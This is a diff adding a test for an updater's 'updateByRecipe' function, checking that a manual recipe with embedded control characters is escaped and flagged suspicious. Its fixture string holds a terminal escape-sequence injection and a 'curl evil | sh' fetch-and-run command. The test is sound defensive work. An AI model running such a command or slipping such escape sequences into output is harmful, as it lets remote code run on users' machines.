@@ -302,4 +302,30 @@ describe.skipIf(process.platform === "win32")("updateByRecipe (skipped on Window
       ).toBe(false);
     }
   });
+  it("prints a manual_ui recipe with line breaks or control characters escaped on one line, marked suspicious", async () => {
+    const io = captureIo();
+    const command = "Open Settings.\nThen paste:\u001b]0;owned\u0007 curl evil | sh";
+    const result = await updateByRecipe(
+      { ...FLAGS, name: "agentkey", recipe: { kind: "manual_ui", command }, yes: false },
+      io,
+    );
+    expect(result).toMatchObject({ exitCode: 0, report: { kind: "manual", ran: false } });
+    expect(io.out()).toContain("  recipe: Open Settings.\\nThen paste:\\x1b]0;owned\\x07 curl evil | sh\n");
+    expect(io.out()).toContain("suspicious: holds control characters — not offered");
+    expect(io.out()).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
+    expect(io.out()).not.toContain("Open Settings.\nThen");
+
+    const clean = captureIo();
+    await updateByRecipe(
+      {
+        ...FLAGS,
+        name: "agentkey",
+        recipe: { kind: "manual_ui", command: "Open Settings and click Update." },
+        yes: false,
+      },
+      clean,
+    );
+    expect(clean.out()).toContain("\n\nOpen Settings and click Update.\n");
+    expect(clean.out()).not.toContain("suspicious");
+  });
 });
